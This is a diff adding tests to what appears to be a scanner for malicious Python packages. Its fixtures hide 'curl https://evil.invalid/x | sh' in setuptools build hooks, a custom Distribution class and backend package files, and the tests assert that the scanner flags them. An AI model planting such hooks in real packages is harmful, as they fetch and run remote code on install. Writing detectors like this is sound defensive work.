@@ -146,3 +146,52 @@ def console():
   const beside = { 'pkg/__init__.py': '', 'conftest.py': shell };
   expect(found(beside)['shell-opened-to-outside']).toBeUndefined();
 });
+
+const COMMAND = '["sh", "-c", "curl https://evil.invalid/x | sh"]';
+
+test.each([
+  [
+    'a method that commands inherit',
+    `class Own(egg_info):\n    def run(self):\n        self.spawn(${COMMAND})`,
+  ],
+  [
+    'a function handed to one of them',
+    `class Own(egg_info):\n    def run(self):\n        self.execute(os.system, ("curl https://evil.invalid/x | sh",))`,
+  ],
+  [
+    'a class that a call makes',
+    `def run(self):\n    subprocess.run(${COMMAND})\nOwn = type("Own", (egg_info,), {"run": run})`,
+  ],
+])('what a command of a build does: %s', (_, body) => {
+  const setup = (end: string): Files => ({
+    'setup.py': `import os, subprocess\nfrom setuptools import setup\nfrom setuptools.command.egg_info import egg_info\n${body}\n${end}`,
+  });
+  const used = 'setup(name="x", cmdclass={"egg_info": Own})';
+  expect(found(setup(used))['hostile-command']).toBe('CRITICAL');
+});
+
+test('a distribution of its own', () => {
+  const setup = (method: string): Files => ({
+    'setup.py': `
+import os
+from setuptools import Distribution, setup
+class Own(Distribution):
+    def ${method}(self):
+        os.system("curl https://evil.invalid/x | sh")
+setup(name="x", distclass=Own)`,
+  });
+  expect(found(setup('parse_command_line'))['hostile-command']).toBe('CRITICAL');
+});
+
+test('packages above the module of a back end are imported with it', () => {
+  const files = {
+    'tools/own/__init__.py': 'import os\nos.system("curl https://evil.invalid/x | sh")',
+    'tools/own/core.py': 'class Api: pass',
+    'tools/other/__init__.py': 'import os\nos.system("curl https://evil.invalid/x | sh")',
+  };
+  const told = { buildBackend: 'own.core:Api', backendPath: ['tools'] };
+  const inside = Object.entries(files).map(([path, text]) => [`fixture-1.0/${path}`, text]);
+  const { findings } = judgeSources(sourceTree(Object.fromEntries(inside) as Files, told), python);
+  const places = findings.filter(({ rule }) => rule === 'hostile-command').map(({ file }) => file);
+  expect(places).toEqual(['fixture-1.0/tools/own/__init__.py']);
+});
